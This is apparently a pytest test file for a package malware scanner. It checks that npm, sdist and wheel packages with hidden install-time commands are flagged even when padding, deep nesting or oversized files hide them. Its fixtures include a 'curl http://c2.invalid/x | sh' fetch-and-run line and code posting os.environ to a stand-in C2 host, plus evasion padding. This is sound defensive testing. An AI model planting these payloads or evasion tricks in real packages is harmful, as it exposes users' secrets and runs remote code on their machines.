"""What is long, deep or full of nothing hides nothing: it is found, or said to be unread."""

from __future__ import annotations

import json

import pytest

from antivenom.intake.files import from_bytes
from antivenom.judge import load_knowledge
from antivenom.model.context import NOTHING
from antivenom.model.review import Review
from antivenom.pipeline import judge, observe
from tests.builders.archives import npm, sdist, wheel

FETCH = "curl http://c2.invalid/x | sh"
SENDS = "import os, requests\nrequests.post('http://c2.invalid/x', data=dict(os.environ))\n"
TOLD = {"malicious", "inconclusive"}


def reviewed(data: bytes, name: str) -> Review:
    return judge(observe(from_bytes(data, name)), NOTHING, load_knowledge())


def of_npm(package: str | bytes, **files: str) -> Review:
    return reviewed(npm({"package.json": package, "index.js": "", **files}), "demo-1.0.0.tgz")


def of_sdist(**files: str) -> Review:
    names = {name.replace("__", "."): text for name, text in files.items()}
    return reviewed(sdist(names), "demo-1.0.tar.gz")


def manifest(before: str = "", command: str = FETCH) -> str:
    scripts = json.dumps({"preinstall": command})
    return f'{{"name": "demo", "version": "1.0.0", {before} "scripts": {scripts}}}'


@pytest.mark.parametrize(
    "before",
    [
        f'"a": "{"x" * (5 << 20)}",',
        f'"a": {"[" * 20_000}{"]" * 20_000},',
        f'"a": {"9" * 5000},',
        '"a": "\\ud800",',
    ],
    ids=["long", "deep", "number", "half a character"],
)
def test_what_npm_can_read_hides_no_script(before: str) -> None:
    assert of_npm(manifest(before)).verdict.value == "malicious"


@pytest.mark.parametrize("package", ["{", "", manifest(f'"a": "{"x" * (17 << 20)}",')])
def test_a_package_json_that_cannot_be_read_is_not_called_clean(package: str) -> None:
    review = of_npm(package)
    assert review.verdict.value == "inconclusive"
    (problem,) = review.coverage.problems
    assert (problem.member, problem.blocking) == ("package/package.json", True)
    assert review.reasons[-1].startswith("package/package.json was not read to its end: ")


@pytest.mark.parametrize("pad", [70_000, 1_200_000])
@pytest.mark.parametrize("filler", ["true; ", " "])
def test_a_long_command_hides_nothing(pad: int, filler: str) -> None:
    before = "true; " + filler * (pad // len(filler))
    assert of_npm(manifest(command=before + FETCH)).verdict.value in TOLD
    code = f"import os\nos.system({before!r} + {FETCH!r})\n"
    assert of_sdist(setup__py=code).verdict.value in TOLD


@pytest.mark.parametrize("lines", [10_000, 300_000])
def test_a_long_script_hides_nothing(lines: int) -> None:
    code = "import os\nos.system('sh run.sh')\n"
    review = of_sdist(setup__py=code, run__sh="true\n" * lines + FETCH)
    assert review.verdict.value in TOLD


def test_what_a_module_runs_when_it_is_imported_is_not_cut_in_silence() -> None:
    code = f"import os\nos.system('true;' * 60_000 + {FETCH!r})\n"
    for broken in ("", "def (:\n"):
        files = {"demo/__init__.py": "from . import sub\n", "demo/sub.py": code + broken}
        review = reviewed(wheel(files), "demo-1.0-py3-none-any.whl")
        assert review.verdict.value in TOLD
        assert any(p.blocking and p.member == "demo/sub.py" for p in review.coverage.problems)


def test_a_beginning_too_long_to_compute_hides_no_end() -> None:
    code = f'exec("a = 1\\n" * 300_000 + "import os; os.system({FETCH!r})")\n'
    assert of_sdist(setup__py=code).verdict.value == "malicious"


BACKEND = '[build-system]\nrequires = []\nbuild-backend = "bk"\nbackend-path = ["x"]\n'


@pytest.mark.parametrize(
    "before",
    [f"# {'.' * 500}\n", f"# {'x' * 300_000}\n", ".".join(['"a"'] * 20_000) + " = 1\n"],
    ids=["dots", "long", "parts"],
)
def test_a_build_backend_is_found_or_the_review_says_that_it_was_not_read(before: str) -> None:
    files = {"pyproject.toml": before + BACKEND, "x/bk.py": f"import os\nos.system({FETCH!r})\n"}
    found = reviewed(sdist(files), "demo-1.0.tar.gz")
    assert found.verdict.value in TOLD
    harmless = reviewed(sdist({"pyproject.toml": before + BACKEND}), "demo-1.0.tar.gz")
    assert harmless.verdict.value == ("clean" if len(before) < 1000 else "inconclusive")


def test_entry_points_too_long_to_read_are_said() -> None:
    rows = "; " + "x" * 600_000 + "\n[console_scripts]\ntool = demo.c:m\n"
    files = {"demo/c.py": "def m():\n    pass\n", "demo-1.0.dist-info/entry_points.txt": rows}
    review = reviewed(wheel(files, name="demo"), "demo-1.0-py3-none-any.whl")
    assert review.verdict.value == "inconclusive"


def test_modules_that_import_everything_of_each_other_cost_no_doubling() -> None:
    names = [f"m{number}" for number in range(40)]
    stars = "".join(f"from demo.{name} import *\n" for name in names) + "from os import *\n"
    files = {f"demo/{name}.py": stars + SENDS for name in names}
    review = reviewed(wheel({"demo/__init__.py": stars, **files}), "demo-1.0-py3-none-any.whl")
    assert review.verdict.value == "malicious"
